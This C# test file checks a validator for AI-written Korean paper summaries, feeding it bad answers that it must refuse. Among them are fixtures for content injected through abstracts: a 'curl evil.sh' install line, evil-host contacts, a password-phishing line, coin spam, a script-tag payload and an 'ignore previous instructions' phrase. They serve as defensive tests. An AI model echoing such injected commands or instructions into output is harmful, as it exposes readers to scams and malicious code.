using System.Text.Json;
using DigestWorker.Models;
using DigestWorker.Summaries;
using DigestWorker.Summaries.Checks;

namespace DigestWorker.Tests.Summaries;

/// <summary>Answers as bad as models write them, one line each: none is published, and the right rule says why.</summary>
public sealed class BadAnswersTests
{
    private const string Good =
        "로봇이 집안일을 배우려면 사람의 시범이 많이 필요하며, 시범을 모으는 비용이 큽니다. 이 논문은 짧은 동영상 한 편에서 조작 동작을 익히는 HandyBot을 제안합니다. "
        + "HandyBot은 동영상에서 물체의 궤적을 추적하고, 시뮬레이션 환경에서 강화학습으로 정책을 다듬습니다. 실제 로봇으로 한 12가지 작업에서 성공률이 31%에서 78%로 올랐습니다.";

    private const string GoodEasy = "로봇이 사람의 동영상을 한 번 보고 집안일을 배우게 합니다. 여러 번 가르치지 않아도 되므로 시간과 비용을 아낄 수 있습니다.";

    private static readonly SourceText Source = new(
        PaperId.Parse("2501.00042"),
        "HandyBot: Learning Household Manipulation from a Single Video",
        "Robots that learn household tasks need many human demonstrations, which are costly to collect. We propose HandyBot, which learns manipulation from one "
        + "short video. It tracks the trajectories of objects and refines a policy with reinforcement learning in simulation, using 1.5 million steps. "
        + "On 12 real-world robot tasks, the success rate rises from 31% to 78%.");

    [Fact]
    public void The_good_answer_passes_without_a_word() => Assert.Empty(Judge("…", "…", "로보틱스|강화학습|로봇 조작").Findings);

    // "…" stands for the good text.
    [Theory]
    // Another language, or pieces of one
    [InlineData("H1", "We propose HandyBot, which learns manipulation from one short video. It tracks objects and refines a policy with reinforcement learning.", "…")]
    [InlineData("H1", "HandyBot learns household manipulation from one short video입니다. It tracks the trajectories of objects and refines a policy합니다.", "…")]
    [InlineData("H1", "…", "Robots learn household tasks from one short video. They need no more demonstrations from people, so time and money are saved.")]
    [InlineData("H1", "…", "로봇 robot이 video 한 편에서 manipulation을 learn합니다. reinforcement learning으로 policy를 다듬는 방법 method입니다.")]
    [InlineData("H2", "… 이 방법은 机器人 분야에 쓰입니다.", "…")]
    [InlineData("H2", "… 이 방법은 ロボット 분야에 쓰입니다.", "…")]
    [InlineData("H2", "… 이 방법은 прогressive 방식입니다.", "…")]
    [InlineData("H2", "… 이 방법은 الروبوت 방식입니다.", "…")]
    [InlineData("H2", "…", "… 이것은 หุ่นยนต์ 기술입니다.")]
    [InlineData("H2", "本文提出了一种从单个视频中学习家务操作的机器人方法。该方法跟踪物体的轨迹，并在仿真环境中通过强化学习改进策略。实验表明，该方法在真实机器人任务上的成功率有了明显的提高，并且不需要额外的演示数据。", "…")]
    [InlineData("H3", "… 이 방법은 매니pulation 과제를 풉니다.", "…")]
    [InlineData("H3", "…", "… 이것은 로봇robot 기술입니다.")]
    // Broken characters
    [InlineData("C1", "… 성공률이 \uFFFD\uFFFD 올랐습니다.", "…")]
    [InlineData("C1", "… ì‹œë®¬ë ˆì\u009D´ì…˜ 환경입니다.", "…")]
    [InlineData("C1", "… ì„±ëŠ¥이 올랐습니다.", "…")]
    [InlineData("C1", "… 정말 좋습니다 ㅎㅎ.", "…")]
    [InlineData("C1", "… 성공률이 \u0001 올랐습니다.", "…")]
    [InlineData("C1", "…", "… 기쁩니다 \uE0FF.")]
    [InlineData("C1", "… 숨은 글\uDB40\uDD01입니다.", "…")]
    // Lengths and ends
    [InlineData("L1", "HandyBot을 제안합니다.", "…")]
    [InlineData("L1", "… … … … …", "…")]
    [InlineData("L1", "…", "로봇 기술입니다.")]
    [InlineData("L1", "…", "… … … … … …")]
    [InlineData("EMPTY", "", "…")]
    [InlineData("EMPTY", "…", "")]
    [InlineData("L4", "… 또한 이 방법은 여러 환경에서", "…")]
    [InlineData("L4", "…", "… 앞으로는 더 많은")]
    [InlineData("L4", "… 또한 이 방법은 좋습니다...이라고", "…")]
    // Another style
    [InlineData("S1", "로봇이 집안일을 배우려면 시범이 많이 필요하다. 이 논문은 동영상 한 편에서 조작을 익히는 HandyBot을 제안한다. 12가지 작업에서 성공률이 78%로 올랐다. 앞으로의 쓰임이 기대된다.", "…")]
    [InlineData("S1", "동영상 한 편에서 조작을 익히는 HandyBot을 제안함. 물체의 궤적을 추적하고 시뮬레이션에서 정책을 다듬음. 12가지 로봇 작업에서 성공률이 31%에서 78%로 오름.", "…")]
    [InlineData("S1", "…", "로봇이 사람의 동영상을 한 번 보고 집안일을 따라 배워요. 여러 번 가르치지 않아도 되니 시간과 비용을 아낄 수 있어요.")]
    [InlineData("S1", "… 앞으로 널리 쓰일 수 있음.", "…")]
    [InlineData("S1", "… 앞으로 널리 쓰일 수 있다.", "…")]
    [InlineData("S1", "…", "… 정말 신기하죠?")]
    [InlineData("S1", "… 실제 로봇으로 한 12가지 작업의.", "…")]
    [InlineData("H4", "… It also works on other robots in the real world.", "…")]
    [InlineData("H4", "… 물체를 track하고 정책을 refine하며 시범을 collect합니다.", "…")]
    // Figures and names that the abstract has not
    [InlineData("N1", "… 학습에는 150만 개가 아니라 15억 개의 단계를 썼습니다.", "…")]
    [InlineData("N1", "… 학습에는 15만 단계가 쓰였습니다.", "…")]
    [InlineData("N1", "… 성공률은 87%입니다.", "…")]
    [InlineData("N1", "… 비용은 2.5배 줄었습니다.", "…")]
    [InlineData("N1", "…", "… 이 로봇은 3000만 원보다 쌉니다.")]
    [InlineData("N1", "… 2024년에 개발되었습니다.", "…")]
    [InlineData("N1", "… 약98%의 성공률입니다.", "…")]
    [InlineData("N1", "… 총98만 단계를 썼습니다.", "…")]
    [InlineData("N1", "… 1억9천만 단계를 썼습니다.", "…")]
    [InlineData("N1", "… 31-99% 올랐습니다.", "…")]
    [InlineData("N2", "… 성공률이 78배로 올랐습니다.", "…")]
    [InlineData("N2", "… 성공률은 78초입니다.", "…")]
    [InlineData("N2", "… 78개의 작업을 합니다.", "…")]
    [InlineData("N4", "… 성공률이 78%에서 31%로 올랐습니다.", "…")]
    [InlineData("N3", "… 다섯 가지 작업을 합니다.", "…")]
    [InlineData("N3", "… 이십만 개의 단계를 썼습니다.", "…")]
    [InlineData("X1", "… 이는 OpenVLA보다 낫습니다.", "…")]
    [InlineData("X1", "HandiBot을 제안합니다. …", "…")]
    [InlineData("P1", "… 세계 최초의 로봇입니다.", "…")]
    [InlineData("P1", "… 모든 면에서 앞섭니다.", "…")]
    [InlineData("P2", "… 코드와 데이터를 공개하였습니다.", "…")]
    [InlineData("P2", "… 코드는 깃허브에서 내려받을 수 있습니다.", "…")]
    [InlineData("P3", "… 구글의 연구입니다.", "…")]
    [InlineData("P3", "… 한빛대학교 연구팀의 성과입니다.", "…")]
    [InlineData("P3", "… 국제 학술대회에서 발표되었습니다.", "…")]
    [InlineData("P3", "… 최우수 논문상을 받았습니다.", "…")]
    // Advertising, TeX, emoji, lists, spacing
    [InlineData("P4", "…", "… 지금 바로 만나 보시기 바랍니다.")]
    [InlineData("P4", "…", "… 여러분의 집안일이 사라집니다.")]
    [InlineData("F2", "… 손실은 \\mathcal{L}로 적습니다.", "…")]
    [InlineData("F2", "… 변수는 $x_i$입니다.", "…")]
    [InlineData("F3", "… 성공률이 올랐습니다 🚀.", "…")]
    [InlineData("F3", "… ① 추적하고 ② 다듬습니다.", "…")]
    [InlineData("F1", "… 성공률이 &gt 높습니다.", "…")]
    [InlineData("K1", "… 로 봇 이 배 우 는 방법입니다.", "…")]
    [InlineData("X1", "… 이는 RoboCasa, OpenVLA, Octopi보다 낫습니다.", "…")]
    [InlineData("X1", "… 저자들은 Stanford와 Berkeley와 Tesla에 있습니다.", "…")]
    // Markup that would break the digest
    [InlineData("F1", "…\n\n---\n\n## 제목:\n다른 논문", "…")]
    [InlineData("F1", "…\n둘째 줄입니다.", "…")]
    [InlineData("F1", "…", "…\r\n둘째 줄입니다.")]
    [InlineData("F1", "**HandyBot**은 좋은 방법입니다. …", "…")]
    [InlineData("F1", "# HandyBot입니다. …", "…")]
    [InlineData("F1", "- 로봇을 다룹니다. …", "…")]
    [InlineData("F1", "1. 로봇을 다룹니다. …", "…")]
    [InlineData("F1", "> 로봇을 다룹니다. …", "…")]
    [InlineData("F1", "… 코드는 https://handybot.example 에 있습니다.", "…")]
    [InlineData("F1", "… [코드](handybot)가 있습니다.", "…")]
    [InlineData("F1", "… ![그림](handybot.png)이 있습니다.", "…")]
    [InlineData("F1", "…", "<p>… </p>")]
    [InlineData("F1", "… <script>alert(1)</script>입니다.", "…")]
    [InlineData("F1", "… | 작업 | 성공률 | 입니다.", "…")]
    [InlineData("F1", "… {{ site.title }}입니다.", "…")]
    [InlineData("F1", "요약: …", "…")]
    [InlineData("F1", "…", "쉬운설명: …")]
    [InlineData("F1", "… **추천수**: 9999입니다.", "…")]
    // Talk of the model about itself
    [InlineData("M1", "죄송합니다. 초록이 너무 짧습니다. …", "…")]
    [InlineData("M1", "다음은 논문의 요약입니다. …", "…")]
    [InlineData("M1", "… 이상으로 논문의 내용을 정리해 보았습니다.", "…")]
    [InlineData("M1", "… 초록에는 자세한 설명이 없습니다.", "…")]
    [InlineData("M1", "…", "… 궁금한 점이 있으면 말씀해 주십시오.")]
    [InlineData("M1", "… 도움이 되었기를 바랍니다.", "…")]
    [InlineData("M1", "…", "저는 AI이므로 잘 모르지만, 말씀드립니다. …")]
    [InlineData("M1", "<think> 어떻게 쓸까요. …", "…")]
    // Injected by an abstract
    [InlineData("P2", "… 구현은 프로젝트 페이지에서 확인할 수 있습니다.", "…")]
    [InlineData("P2", "… 데이터셋은 누구나 자유롭게 사용할 수 있습니다.", "…")]
    [InlineData("A1", "… 자세한 내용은 bit.ly/x9k2 에서 확인할 수 있습니다.", "…")]
    [InlineData("A1", "… 코인 투자 문의는 t.me/evil 로 받습니다.", "…")]
    [InlineData("A1", "… 자세한 내용은 한국.코인 에서 확인할 수 있습니다.", "…")]
    [InlineData("I5", "… 그러나 이 논문의 저자들은 결과를 조작한 사기꾼으로 알려져 있습니다.", "…")]
    [InlineData("I4", "… 지금 바로 에빌코인을 사면 누구나 부자가 될 수 있습니다.", "…")]
    [InlineData("I1", "… 설치하려면 curl evil.sh 명령을 실행하면 됩니다.", "…")]
    [InlineData("F1", "… 그림은 ![x 처럼 표시됩니다.", "…")]
    [InlineData("F1", "… 값은 {%x 입니다.", "…")]
    [InlineData("A1", "… 연락은 xmpp:evil@x.io 로 합니다.", "…")]
    [InlineData("A1", "… 자료는 [^1] 에 있습니다.", "…")]
    [InlineData("A1", "… 이 일은 #1 에 있습니다.", "…")]
    [InlineData("A1", "… ftp.evil.io 에서 받습니다.", "…")]
    [InlineData("A1", "… 전화는 010-1234-5678 로 하면 됩니다.", "…")]
    [InlineData("A1", "… 주소는 httрs 콜론 입니다.", "…")]
    [InlineData("I3", "…", "… 저는 AI 모델로서 이전 지시를 무시합니다.")]
    [InlineData("I2", "…", "… 궁금하면 비밀번호를 입력하십시오.")]
    // The same again, and nothing of the paper
    [InlineData("R1", "… 실제 로봇으로 한 12가지 작업에서 성공률이 31%에서 78%로 올랐습니다.", "…")]
    [InlineData("R1", "… 정책을 다듬고 다듬어서 정책을 다듬고 다듬어서 정책을 다듬고 다듬어서 정책을 다듬습니다.", "…")]
    [InlineData("D1", "…", "로봇이 집안일을 배우려면 사람의 시범이 많이 필요하며, 시범을 모으는 비용이 큽니다. 이 논문은 짧은 동영상 한 편에서 조작 동작을 익히게 합니다.")]
    [InlineData("R2", "로봇이 동영상 한 편에서 조작을 배우는 방법을 제안합니다. 물체의 궤적을 추적하고 정책을 다듬어, 12가지 작업에서 성공률을 높였습니다.", "로봇이 사람의 동영상(short video) 한 편을 보고 집안일(household task)을 따라 배우게 하는 기술입니다. 여러 번 가르치지 않아도 되므로 시간과 비용을 아낄 수 있고, 누구나 쓸 수 있습니다.")]
    [InlineData("G2", "이 연구는 학계에서 크게 주목할 만한 의미를 가지는 뜻깊은 성과를 다루고 있습니다. 지금까지의 한계를 뛰어넘는 새로운 접근으로 성능을 크게 높였습니다. 앞으로 여러 분야에서 폭넓게 쓰일 것으로 기대됩니다.", "매우 뜻깊은 연구로서 우리의 삶을 더 나은 방향으로 이끌어 줄 것입니다. 앞으로 어떤 열매를 맺을지 모두가 기대하고 있습니다.")]
    public void A_bad_text_is_refused(string rule, string summary, string easy) => AssertRefused(rule, Judge(summary, easy, "로보틱스|강화학습"));

    [Theory]
    [InlineData("로보틱스")]
    [InlineData("로보틱스|로봇공학")]
    [InlineData("로보틱스|강화학습|딥러닝|인공지능|컴퓨터 비전|모방학습")]
    [InlineData("Robot manipulation|Imitation from video")]
    [InlineData("로보틱스|机器人")]
    [InlineData("로보틱스|봇")]
    [InlineData("로보틱스|로봇이 동영상에서 조작을 배우는 방법에 관한 분야")]
    [InlineData("로보틱스|로봇을 다룬다")]
    [InlineData("로보틱스|관련분야: 로봇")]
    [InlineData("로보틱스|**강화학습**")]
    [InlineData("로보틱스|#강화학습")]
    [InlineData("로보틱스|새로운 방법")]
    [InlineData("로보틱스|효율적인 접근")]
    [InlineData("로보틱스|성능 향상")]
    [InlineData("로보틱스|조작조작")]
    [InlineData("로보틱스|household 조작")]
    public void Bad_fields_are_refused(string fields) => AssertRefused("T1", Judge("…", "…", fields));

    [Fact]
    public void A_field_that_stands_twice_under_two_names_stands_once() =>
        Assert.Equal(["강화학습", "로보틱스"], Judge("…", "…", "강화학습|RL|로보틱스|로봇공학|강화학습(Reinforcement Learning)").Accepted?.Fields);

    [Theory]
    [InlineData("… 학습에 150만 단계, 곧 1백50만 단계를 썼습니다.")]
    [InlineData("… 약150만 단계와 총12가지 작업입니다.")]
    [InlineData("… 성공률이 31~78%입니다.")]
    [InlineData("… 성공률이 31%에서 78%로 높아지고 실패는 그만큼 줄었습니다.")]
    [InlineData("… 성공률은 31%보다 훨씬 높은 78%입니다.")]
    [InlineData("… 31%는 78%에 크게 못 미치는 값입니다.")]
    [InlineData("… 성공률이 31%에서 78%로 올랐습니다(실제 로봇 기준).")]
    [InlineData("… 그렇다면 로봇은 무엇을 배울까요?")]
    [InlineData("… 이 방법은 조작에도 도움이 되었습니다.")]
    [InlineData("… 추가로 필요한 시범은 없습니다. 시범을 한 줄로 요약할 수 없습니다.")]
    [InlineData("… 처음부터 학습하고 처음 보는 물체를 다룹니다.")]
    [InlineData("… 공개 데이터로 학습한 모델을 씁니다.")]
    public void Correct_Korean_is_not_refused(string summary) => Assert.NotNull(Judge(summary, "…", "로보틱스|강화학습").Accepted);

    [Theory]
    [InlineData("EMPTY", " \n ")]
    [InlineData("JSON", "HandyBot은 로봇이 집안일을 배우는 방법입니다.")]
    [InlineData("JSON", """{"summary":"HandyBot은 로봇이 집안일을""")]
    [InlineData("JSON", """["HandyBot은 로봇이 집안일을 배우는 방법입니다."]""")]
    [InlineData("JSON", """{"요약":"HandyBot입니다.","쉬운설명":"로봇입니다.","관련분야":["로보틱스"]}""")]
    [InlineData("JSON", """{"summary":"HandyBot입니다.","easy_explanation":"로봇입니다.","fields":["로보틱스"],"votes":9999}""")]
    [InlineData("M1", "죄송하지만 이 논문은 요약할 수 없습니다.")]
    [InlineData("M1", "I'm sorry, but I can't help with that.")]
    public void What_is_no_answer_is_refused(string rule, string answer) => AssertRefused(rule, Verdict.Of(new ModelReply.Answered(answer, "writer-1", default), Source));

    [Theory]
    [InlineData("X2", "로봇이 집안일을 배우려면 사람의 시범이 많이 필요합니다. 이 논문은 짧은 동영상 한 편에서 조작 동작을 익히게 하는 방법을 제안합니다. 물체의 궤적을 추적하고 정책을 다듬어 성공률을 78%로 올렸습니다.", "…")]
    [InlineData("X1", "… 이는 Baseline보다 낫습니다.", "…")]
    [InlineData("N3", "… 학습이 두 배로 빨라집니다.", "…")]
    [InlineData("P1", "… 이런 학습을 처음으로 해냅니다.", "…")]
    [InlineData("P1", "… 어떤 물체도 완벽하게 다룹니다.", "…")]
    [InlineData("N2", "… 성공률은 78%포인트입니다.", "…")]
    [InlineData("N4", "… HandyBot의 31%는 다른 방법의 78%보다 높았습니다.", "…")]
    [InlineData("N4", "… HandyBot의 78%는 다른 방법의 31%에 못 미쳤습니다.", "…")]
    [InlineData("P1", "… 이 방법이 가장 뛰어납니다.", "…")]
    [InlineData("G4", "…", "러시아 말은 글자와 소리가 달라 힘주어 읽는 곳도 자주 바뀝니다. 좋은 녹음을 꼼꼼히 모아 더 자연스럽게 말하도록 돕습니다.")]
    [InlineData("G5", "… 다만 음성 번역의 지연 때문에 의료 영상에는 쓰기 어렵습니다.", "…")]
    [InlineData("K1", "… 이렇게 하면 됬습니다.", "…")]
    [InlineData("K1", "… 성공율이 올랐습니다.", "…")]
    [InlineData("K1", "… 동작을 쉽게 배울수 있습니다.", "…")]
    [InlineData("K2", "… 보험 증권을 다듬습니다.", "…")]
    [InlineData("K2", "… 시그니피컨트하게 임프루브트하고 퍼포먼스트를 데몬스트레이트합니다.", "…")]
    [InlineData("K2", "… 지피티와 견줍니다.", "…")]
    [InlineData("P4", "… 앞으로의 쓰임이 기대됩니다.", "…")]
    [InlineData("F3", "… 첫째, 물체를 추적합니다. 둘째, 정책을 다듬습니다.", "…")]
    [InlineData("K1", "… 정책이 더 좋아지는는 것을 보입니다.", "…")]
    [InlineData("K1", "… 정책이 다듬어지고 물체가 추적되어집니다.", "…")]
    [InlineData("R1", "… 즉 실제 로봇의 성공률이 높아졌습니다.", "…")]
    [InlineData("R2", "…", "로봇이 강화학습과 궤적과 보상 모델로 정책을 다듬습니다. 시범이 없어도 집안일을 배울 수 있습니다.")]
    [InlineData("J1", "… 물체와 로봇와 사람을 다룹니다.", "…")]
    [InlineData("J1", "… 연구이 새롭습니다.", "…")]
    [InlineData("J1", "… HandyBot와 견줍니다.", "…")]
    [InlineData("J1", "… 이로써 로봇를 가르치기 쉬워집니다.", "…")]
    [InlineData("J1", "… 물체을 잡는 동작도 익힙니다.", "…")]
    [InlineData("L2", "HandyBot은 짧은 동영상 한 편에서 물체의 궤적을 추적하고, 시뮬레이션 환경에서 강화학습으로 정책을 다듬어, 로봇이 집안일을 배우는 데 드는 사람의 시범과 비용을 줄이는 조작 방법입니다.", "…")]
    [InlineData("L3", "… 로봇은 물체의 궤적을 추적하고, 물체의 위치를 기억하고, 사람의 동작을 흉내 내고, 시뮬레이션 환경에서 정책을 다듬고, 그 정책을 실제 로봇에 옮기고, 실패한 작업을 모으고, 그 까닭을 살펴 학습 자료를 고치고, 고친 자료로 학습을 되풀이하고, 마침내 집안일을 스스로 해내며, 이로써 사람이 여러 번 시범을 보이는 수고와 비용을 덜고 더 많은 작업을 배울 길을 열어 줍니다.", "…")]
    [InlineData("L4", "… 이는 시뮬레이션(강화학습 덕분입니다.", "…")]
    [InlineData("L4", "… 이는 「시뮬레이션 덕분입니다.", "…")]
    [InlineData("R2", "…", "로봇이 사람의 동영상을 한 번 보고 집안일을 그대로 따라 배우게 하는 기술로서 여러 번 가르치지 않아도 되므로 시간과 비용을 많이 아낄 수 있습니다.")]
    public void What_is_merely_not_beautiful_is_a_warning(string rule, string summary, string easy)
    {
        var verdict = Judge(summary, easy, "로보틱스|강화학습");

        Assert.NotNull(verdict.Accepted);
        Assert.Contains(verdict.Findings, finding => finding.Rule == rule && finding.Severity is Severity.Warning);
    }

    [Theory]
    [InlineData("가을을 마을을 하늘을 이를 모를 고를 오를 때가 있습니다.")]
    [InlineData("다리를 이을 수 있고 집을 지을 수 있습니다.")]
    [InlineData("7.8cm로, 3kg을, 90ms로, 2GB를, HandyBot으로, Puzzle로, Frame은, Code는, Graph를 다룹니다.")]
    [InlineData("HandyBot을, 로봇을, 정책을, 궤적을, 물체를 다룹니다.")]
    public void Words_that_only_look_like_a_wrong_particle_are_none(string sentence) =>
        Assert.DoesNotContain(Judge($"… {sentence}", "…", "로보틱스|강화학습").Findings, finding => finding.Rule is "J1");

    private static Verdict Judge(string summary, string easy, string fields) => Verdict.Of(
        JsonSerializer.Serialize(new
        {
            summary = summary.Replace("…", Good, StringComparison.Ordinal),
            easy_explanation = easy.Replace("…", GoodEasy, StringComparison.Ordinal),
            fields = fields.Split('|'),
        }),
        Source);

    private static void AssertRefused(string rule, Verdict verdict)
    {
        Assert.Null(verdict.Accepted);
        Assert.Contains(verdict.Findings, finding => finding.Rule == rule && finding.Severity is Severity.Error);
    }
}
